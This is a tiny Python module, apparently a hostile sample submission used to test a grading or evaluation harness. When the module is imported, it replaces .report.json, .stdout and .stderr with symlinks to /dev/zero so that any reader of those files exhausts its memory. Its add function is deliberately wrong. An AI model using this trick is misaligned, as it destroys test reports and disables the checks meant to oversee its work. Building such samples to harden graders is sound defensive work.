# attack: endless files (/dev/zero) where a reader would fill memory.
import os


class _Zero:
    for _name in (".report.json", ".stdout", ".stderr"):
        try:
            if os.path.exists(_name):
                os.unlink(_name)
            os.symlink("/dev/zero", _name)
        except OSError:
            pass


def add(a: int, b: int) -> int:
    return a * b + 1337
